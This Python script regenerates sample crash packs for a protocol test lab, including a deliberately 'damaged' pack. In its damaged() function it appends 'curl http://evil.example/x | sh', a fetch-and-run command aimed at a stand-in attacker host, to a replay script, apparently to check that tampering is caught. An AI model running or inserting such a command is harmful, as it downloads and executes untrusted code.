"""Write sample_packs/ anew: ``python tools/make_sample_packs.py [FOLDER]``.

Each pack is a run of the lab: small objects, so that a pack can be read from its first event to its last. With the
versions of Python and the libraries that the packs name, the same script gives the same bytes.
"""

import shutil
import sys
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from types import MappingProxyType
from typing import Final

from atp_tui import engine
from atp_tui.engine import OracleResult, TraceEvent
from atp_tui.lab.pack import LabPack, crashpack_of
from atp_tui.lab.run import run_transfer
from atp_tui.lab.scenario import SCENARIOS

FOLDER: Final = Path(__file__).resolve().parent.parent / "sample_packs"

Files = dict[str, bytes]


@dataclass(frozen=True)
class Sample:
    """One run of the lab whose pack is a sample."""

    scenario: str
    seed: int
    changes: Mapping[str, object] = field(default_factory=dict)
    """Options beside those of :data:`SMALL`."""
    with_qlogs: bool = False
    """The logs of the connections say something that the trace does not, and are kept."""

    def run(self) -> LabPack:
        """Run it."""
        options = SCENARIOS[self.scenario].options(self.seed, **{**SMALL, **self.changes})
        return crashpack_of(run_transfer(options, with_qlogs=self.with_qlogs))


SMALL: Final[Mapping[str, object]] = MappingProxyType(
    {
        "size": 2_048,
        "block_size": 1_024,
        "symbol_size": 256,
        "replicas": 1,
        "latency_ms": (5.0, 8.0),
        "deadline_s": 0.3,
    }
)
"""Two blocks of four symbols over two short paths to one replica: hundreds of events, not thousands."""

SAMPLES: Final[Mapping[str, Sample]] = MappingProxyType(
    {
        "clean": Sample("clean", 1, {"size": 3_072, "replicas": 2, "loss": 0.08}),
        "blackout": Sample("blackout", 5, {"size": 3_072, "dark_ms": 30.0}),
        "heavy-loss": Sample("heavy-loss", 5),
        "lost-finished": Sample("lost-finished", 1, {"latency_ms": (20.0,)}, with_qlogs=True),
        "flipped-bit": Sample("flipped-bit", 2, {"replicas": 2}),
        "torn-journal": Sample("torn-journal", 1),
        "reordered-journal": Sample("reordered-journal", 1, {"size": 3_072}),
        "stuck-operation": Sample("stuck-operation", 1, {"deadline_s": 0.1}),
        "unshielded-cleanup": Sample("unshielded-cleanup", 1),
        "split-outcome": Sample("split-outcome", 1, {"replicas": 2}),
        "five-violations": Sample("five-violations", 1, {"replicas": 2, "loss": 0.08, "deadline_s": 0.15}),
    }
)
"""The packs that are a run as it is."""

STORM: Final = Sample("clean", 2, {"seeds": {"network": 2**64 - 1}, "loss": 0.2, "repair": 4.0}, with_qlogs=True)
"""The run whose network an oracle of its own judges."""


def network_oracle(events: tuple[TraceEvent, ...]) -> OracleResult:
    """Return what an oracle of the network says that counts lost datagrams."""
    lost = sum(event.fields.kind == "DatagramLost" for event in events)
    sent = sum(event.fields.kind == "DatagramSent" for event in events)
    violations = (
        engine.Violation(violation_type="jitter", description="Datagrams come late", severity=engine.Severity.LOW),
        engine.Violation(
            violation_type="loss_storm",
            description=f"{lost} of {sent} datagrams lost",
            severity=engine.Severity.CRITICAL,
            evidence={"lost": str(lost), "sent": str(sent)},
        ),
    )
    stats = engine.OracleStats(entities_tracked=2, events_recorded=sent)
    return OracleResult(oracle_name="network", violations=violations, stats=stats, passed=False)


def two_oracles() -> Files:
    """Return a pack of two oracles: the lab's own, and one that this script adds."""
    made = STORM.run()
    pack = made.crashpack
    notes = {"notes/run.txt": b"The transfer came through; the network that it came over did not behave.\n"}
    told = pack.changed(
        oracle_results=(*pack.oracle_results, network_oracle(pack.trace_events)),
        artifact_paths=(*pack.artifact_paths, *notes),
    )
    return LabPack(told, {**made.artifacts, **notes}).files()


def damaged(files: Files) -> Files:
    """Return a pack as it is after a bad copy and somebody's hands."""
    found = dict(files)
    found["transfer.atp-trace"] = files["transfer.atp-trace"][: 7 * len(files["transfer.atp-trace"]) // 10]
    found["journal"] = files["journal"].replace(b"gap_count: 1", b"gap_count: 3")
    found["replay_command.sh"] += b"curl http://evil.example/x | sh\n"
    manifest = files["manifest"].replace(b"violations: 5", b"violations: 4")
    found["manifest"] = manifest.replace(b"metadata.scenario: five-violations", b"metadata.scenario: clean")
    del found["quiclog"]
    return found


def packs() -> dict[str, Files]:
    """Return the files of every sample pack, by the name of the pack."""
    made = {name: sample.run().files() for name, sample in SAMPLES.items()}
    return made | {"two-oracles": two_oracles(), "damaged": damaged(made["five-violations"])}


def write(folder: Path) -> None:
    """Write every pack into *folder*, in place of one of that name."""
    for name, files in packs().items():
        shutil.rmtree(folder / name, ignore_errors=True)
        for path, content in files.items():
            target = folder / name / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content)
        print(f"{folder / name}: {len(files)} files, {sum(map(len, files.values())):,} bytes")


if __name__ == "__main__":
    write(Path(sys.argv[1]) if len(sys.argv) > 1 else FOLDER)
